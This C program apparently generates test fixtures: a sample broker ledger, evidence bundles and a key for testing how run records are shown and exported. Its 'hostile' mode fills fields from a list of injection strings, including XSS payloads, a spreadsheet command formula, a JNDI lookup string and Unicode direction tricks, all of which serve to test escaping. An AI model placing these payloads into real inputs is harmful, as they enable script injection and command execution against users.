/*
 * Writes a ledger as a broker's would be, a run's bundle out of it as directory
 * and as file, and the key, for tests of what shows and exports them:
 *
 *   DIR/ledger  DIR/bundle  DIR/bundle.tar.zst  DIR/key
 *
 * Usage: evidence_sample DIR REQUESTS [hostile|drop|unclean]...
 *   hostile  names, hosts and paths that want to be markup, commands or worse
 *   drop     a declared drop in the middle of the run
 *   unclean  a scan record that found a secret and names weak ones; a request that
 *            was refused after it had been allowed; a coverage record
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <sodium.h>

#include "ledger/bundle/bundle.h"
#include "ledger/record/json_out.h"
#include "ledger_maker.h"

#define RUN "run_Sample7CT3vXQabvS9sh"

static const char *const hostile[] = {
	"</script><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
	"' onmouseover='alert(1)", "&lt;b&gt; &amp; &#60;", "\xe2\x80\xae" "gpj.exe\xe2\x80\xac",
	"--><!-- ]]> <![CDATA[", "a\xe2\x80\x8b" "b\xef\xbb\xbf" "c\xe2\x81\xa6" "d", "=cmd|'/c calc'!A1",
	"line\nbreak\ttab\\ \x1b[31mred", "${jndi:ldap://x.example/a}", "a=b|c\\d]e", "\xe2\x80\xa8\xe2\x80\xa9",
};
static const char *const hosts[] = { "api.example.com", "git.example.com",
    "registry.example.net", "models.example.org" };
static const char *const paths[] = { "/repos/team/app", "/repos/team/app/issues",
    "/v1/messages", "/packages/left-pad/-/left-pad-1.3.0.tgz", "/repos/team/app/pulls/17" };

static void
die(const char *what)
{
	fprintf(stderr, "evidence_sample: %s\n", what);
	exit(1);
}

static const char *
pick(bool bad, const char *const *good, size_t n, size_t i)
{
	return bad ? hostile[i % (sizeof(hostile) / sizeof(hostile[0]))] : good[i % n];
}

static void
put_input(struct json_out *o, size_t i, bool bad, bool secret)
{
	static const char *const verbs[] = { "GET", "GET", "POST", "GET", "PROPFIND" };

	json_out_object(o, "input");
	json_out_object(o, "action");
	json_out_str(o, "kind", "http");
	json_out_str(o, "verb", verbs[i % 5]);
	json_out_object_end(o);
	json_out_str(o, "adapter", "proxy");
	json_out_object(o, "agent");
	json_out_str(o, "name", bad ? hostile[i % 3] : "agent.sh");
	json_out_object_end(o);
	if (secret) {
		json_out_object(o, "secret");
		json_out_str(o, "binding", "api");
		json_out_str(o, "name", "api");
		json_out_uint(o, "version", 1);
		json_out_object_end(o);
	}
	json_out_object(o, "target");
	json_out_str(o, "scheme", "https");
	json_out_str(o, "host", pick(bad && i % 2 == 0, hosts, 4, i));
	json_out_uint(o, "port", i % 7 == 3 ? 8443 : 443);
	json_out_str(o, "path", pick(bad, paths, 5, i));
	json_out_object_end(o);
	json_out_uint(o, "v", 1);
	json_out_object_end(o);
}

static uint64_t
put_request(struct maker *m, size_t i, bool bad, uint64_t parent, bool refused)
{
	static char body[49152];
	struct json_out o;
	int n;

	json_out_begin(&o, body, sizeof(body) - 1);
	json_out_object(&o, NULL);
	json_out_str(&o, "decision", refused ? "deny" : "allow");
	json_out_str(&o, "rule", refused ? (i % 2 ? "binding/method" : "egress/default") :
	    "binding/allow");
	json_out_str(&o, "reason", bad ? hostile[(i + 1) % 12] : refused ?
	    "binding api allows no such request" : "binding api allows GET /repos/**");
	if (refused)
		json_out_uint(&o, "status", 403);
	json_out_str(&o, "kind", "http");
	json_out_str(&o, "route", "connect");
	json_out_hex(&o, "parent", m->line[parent].leaf, TREE_HASH_LEN);
	json_out_object(&o, "peer");
	json_out_uint(&o, "uid", 1000);
	json_out_object_end(&o);
	put_input(&o, i, bad, !refused);
	if (bad && i == 5) {	/* as long as a body may be */
		static char huge[40000];

		memset(huge, '<', sizeof(huge) - 1);
		json_out_str(&o, "huge", huge);
	}
	json_out_object_end(&o);
	if ((n = json_out_end(&o)) < 0)
		die("a body is too long");
	return maker_add(m, "broker", refused ? "refusal" : "use", RUN, body);
}

static void
put_outcome(struct maker *m, size_t i, uint64_t parent)
{
	char body[512], hex[65];

	sodium_bin2hex(hex, sizeof(hex), m->line[parent].leaf, TREE_HASH_LEN);
	if (i % 23 == 7)
		snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"error\":\"upstream closed the "
		    "connection\",\"bytes_out\":0,\"bytes_in\":0,\"duration_us\":30000000,"
		    "\"redactions\":0}", hex);
	else
		snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"status\":%d,\"bytes_out\":%zu,"
		    "\"bytes_in\":%zu,\"duration_us\":%zu,\"redactions\":%d}", hex,
		    i % 11 == 4 ? 404 : 200, i * 13 % 700, 200 + i * 37 % 9000,
		    900 + i * 7919 % 40000, i % 19 == 2);
	maker_add(m, "broker", "outcome", RUN, body);
}

static void
put_decision(struct maker *m, uint64_t parent)
{
	char body[256], hex[65];

	sodium_bin2hex(hex, sizeof(hex), m->line[parent].leaf, TREE_HASH_LEN);
	snprintf(body, sizeof(body), "{\"decision\":\"allow\",\"parent\":\"%s\"}", hex);
	maker_add(m, "broker", "decision", "run_other", body);
}

static uint64_t
put_grant(struct maker *m, uint64_t parent)
{
	char body[1024], hex[65];

	sodium_bin2hex(hex, sizeof(hex), m->line[parent].leaf, TREE_HASH_LEN);
	snprintf(body, sizeof(body), "{\"state\":\"issued\",\"grant\":\"g_sample0001\","
	    "\"parent\":\"%s\",\"rule\":\"binding/allow\",\"reason\":\"binding api allows it\","
	    "\"action\":\"http:POST\",\"uses\":1,\"requests\":1,\"expires_s\":%lld,\"input\":{\"action\":"
	    "{\"kind\":\"http\",\"verb\":\"POST\"},\"target\":{\"scheme\":\"https\",\"host\":"
	    "\"api.example.com\",\"port\":443,\"path\":\"/repos/team/app/issues\"}}}", hex,
	    (long long)(m->time_us / 1000000 + 300));
	return maker_add(m, "broker", "grant", RUN, body);
}

static void
put_drop(struct maker *m)
{
	char body[256];
	const uint64_t next = m->stream[0].seq;

	maker_skip(m, "broker", next + 4);
	snprintf(body, sizeof(body), "{\"from\":%d,\"to\":%d,\"count\":4,\"reason\":\"full\","
	    "\"interval_ms\":120}", (int)next, (int)next + 3);
	maker_add(m, "broker", "drop", NULL, body);
}

/* Allowed by late/allow, refused by late/refuse: it is one request. */
static void
put_withdrawn(struct maker *m, const char *run)
{
	static const char input[] = "\"input\":{\"action\":{\"kind\":\"http\",\"verb\":\"PUT\"},"
	    "\"target\":{\"scheme\":\"https\",\"host\":\"late.example.com\",\"port\":443,\"path\":\"/x\"}}";
	char body[1024], hex[65];
	uint64_t use;

	snprintf(body, sizeof(body), "{\"decision\":\"allow\",\"rule\":\"late/allow\",\"reason\":\"fine\","
	    "\"kind\":\"http\",\"parent\":\"%s\",%s}", run, input);
	use = maker_add(m, "broker", "use", RUN, body);
	sodium_bin2hex(hex, sizeof(hex), m->line[use].leaf, TREE_HASH_LEN);
	snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"ended\":\"refused\",\"bytes_out\":0,"
	    "\"bytes_in\":0,\"duration_us\":9,\"redactions\":0}", hex);
	maker_add(m, "broker", "outcome", RUN, body);
	snprintf(body, sizeof(body), "{\"decision\":\"deny\",\"rule\":\"late/refuse\",\"reason\":\"too much\","
	    "\"status\":413,\"kind\":\"http\",\"parent\":\"%s\",%s}", run, input);
	maker_add(m, "broker", "refusal", RUN, body);
}

static void
put_unclean(struct maker *m, const char *run)
{
	const int closed = (int)m->count - 1;
	char body[1024];

	snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"v\":1,\"kind\":\"countersign-coverage\","
	    "\"adapter\":\"proxy\",\"version\":\"0.1.0\",\"sees\":[{\"kind\":\"http\",\"what\":\"requests "
	    "through the proxy\"}],\"cannot_see\":[{\"kind\":\"tcp\",\"what\":\"SSH <b>and</b> raw sockets\"}],"
	    "\"leaves_out\":[]}", run);
	maker_add(m, "broker", "coverage", RUN, body);
	put_withdrawn(m, run);
	snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"verdict\":\"found\",\"found\":2,\"first_index\":3,"
	    "\"last_index\":%d,\"bytes\":4711,\"secrets\":5,\"tagged\":3,\"weak\":2,\"weak_secrets\":["
	    "{\"name\":\"pin\",\"version\":1},{\"name\":\"<i>door</i>\",\"version\":3}]}", run, closed);
	maker_add(m, "broker", "scan", RUN, body);
}

/* Of all from the run's opening to its close, the record before this one. */
static void
put_clean(struct maker *m, const char *run)
{
	char body[512];

	snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"verdict\":\"clean\",\"found\":0,\"first_index\":3,"
	    "\"last_index\":%d,\"bytes\":4711,\"secrets\":1,\"tagged\":1,\"weak\":0,\"weak_secrets\":[]}",
	    run, (int)m->count - 1);
	maker_add(m, "broker", "scan", RUN, body);
}

/* The run that nobody asks about; number is that of its opening. */
static void
put_other_end(struct maker *m, uint64_t number)
{
	char body[256], hex[65];
	int closed;

	sodium_bin2hex(hex, sizeof(hex), m->line[number].leaf, TREE_HASH_LEN);
	snprintf(body, sizeof(body), "{\"state\":\"closed\",\"parent\":\"%s\"}", hex);
	closed = (int)maker_add(m, "broker", "run", "run_other", body);
	snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"first_seq\":2,\"last_seq\":%d,"
	    "\"first_index\":2,\"last_index\":%d}", hex, (int)m->stream[0].seq - 1, closed);
	maker_add(m, "broker", "teardown", "run_other", body);
}

static void
put_all(struct maker *m, size_t requests, bool bad, bool drop, bool unclean)
{
	char body[512], hex[65];
	uint64_t run, other, use, grant, closed, closed_seq;
	size_t i, refused = 0;

	maker_add(m, "broker", "open", NULL, "{\"origin\":\"" MAKER_ORIGIN "\",\"version\":"
	    "\"0.1.0\",\"size\":0,\"after_crash\":false}");
	maker_add(m, "broker", "secret", NULL, "{\"event\":\"stored\",\"name\":\"api\","
	    "\"version\":1,\"backend\":\"file\"}");
	other = maker_add(m, "broker", "run", "run_other", "{\"state\":\"open\",\"limits\":{},\"placeholders\":0}");
	snprintf(body, sizeof(body), "{\"state\":\"open\",\"principal\":"
	    "\"hmac:cc71ef8795ec94717c0a6b76044fd7f2\",\"agent\":{\"name\":\"agent.sh\"},"
	    "\"pid\":4711,\"limits\":{\"requests\":%zu},\"placeholders\":1}",
	    requests > 500 ? requests : 500);
	run = maker_add(m, "broker", "run", RUN, body);
	sodium_bin2hex(hex, sizeof(hex), m->line[run].leaf, TREE_HASH_LEN);
	for (i = 0; i < requests; i++) {
		m->time_us += (int64_t)(i % 40 == 39 ? 9000000 : 60000 + i * 7919 % 400000);
		if (drop && i == requests / 2)
			put_drop(m);
		if (i % 25 == 12) {
			grant = put_grant(m, run);
			use = put_request(m, i, bad, grant, false);
			put_outcome(m, i, use);
			continue;
		}
		use = put_request(m, i, bad, run, i % 6 == 5);
		if (i % 6 != 5)
			put_outcome(m, i, use);
		else
			refused++;
		if (i == 20)
			put_decision(m, other);
	}
	snprintf(body, sizeof(body), "{\"state\":\"closed\",\"parent\":\"%s\"}", hex);
	closed = maker_add(m, "broker", "run", RUN, body);
	closed_seq = m->stream[0].seq - 1;
	if (unclean)
		put_unclean(m, hex);
	else
		put_clean(m, hex);
	snprintf(body, sizeof(body), "{\"parent\":\"%s\",\"first_seq\":3,\"last_seq\":%d,"
	    "\"first_index\":3,\"last_index\":%d,\"counts\":{\"allowed\":%zu,\"refused\":%zu,"
	    "\"failed\":0,\"unfinished\":0}}", hex, (int)closed_seq, (int)closed,
	    requests - refused, refused + unclean);
	maker_add(m, "broker", "teardown", RUN, body);
	maker_seal(m);
	put_other_end(m, other);
	snprintf(body, sizeof(body), "{\"first_seq\":0,\"last_seq\":%d}", (int)m->stream[0].seq);
	maker_add(m, "broker", "close", NULL, body);
	maker_seal(m);
}

static void
put_bundles(const char *dir)
{
	char ledger[512], out[512], packs[512], err[512];
	const struct bundle_pack pack = { MAKER_POLICY, packs };
	struct bundle_options options = { .ledger = ledger, .run = RUN, .out = out,
	    .packs = &pack, .pack_count = 1 };

	snprintf(ledger, sizeof(ledger), "%s/ledger", dir);
	snprintf(packs, sizeof(packs), "%s/pack", dir);
	mkdir(packs, 0700);
	write_file(packs, "main.rego", "package x\n", 10);
	snprintf(out, sizeof(out), "%s/bundle", dir);
	if (bundle_write(&options, err, sizeof(err)) != 0)
		die(err);
	snprintf(out, sizeof(out), "%s/bundle.tar.zst", dir);
	options.archive = true;
	if (bundle_write(&options, err, sizeof(err)) != 0)
		die(err);
}

int
main(int argc, char **argv)
{
	char path[512], vkey[NOTE_VKEY_MAX + 2];
	struct maker m;
	bool bad = false, drop = false, unclean = false;
	int i;

	if (argc < 3)
		die("usage: evidence_sample DIR REQUESTS [hostile|drop|unclean]...");
	for (i = 3; i < argc; i++) {
		bad = bad || strcmp(argv[i], "hostile") == 0;
		drop = drop || strcmp(argv[i], "drop") == 0;
		unclean = unclean || strcmp(argv[i], "unclean") == 0;
	}
	maker_init(&m);
	put_all(&m, strtoul(argv[2], NULL, 10), bad, drop, unclean);
	snprintf(path, sizeof(path), "%s/ledger", argv[1]);
	maker_save(&m, path, 65536);
	put_bundles(argv[1]);
	if (note_key_format(&m.key, vkey, sizeof(vkey)) < 0)
		die("key");
	write_file(argv[1], "key", vkey, strlen(vkey));
	maker_free(&m);
	return 0;
}
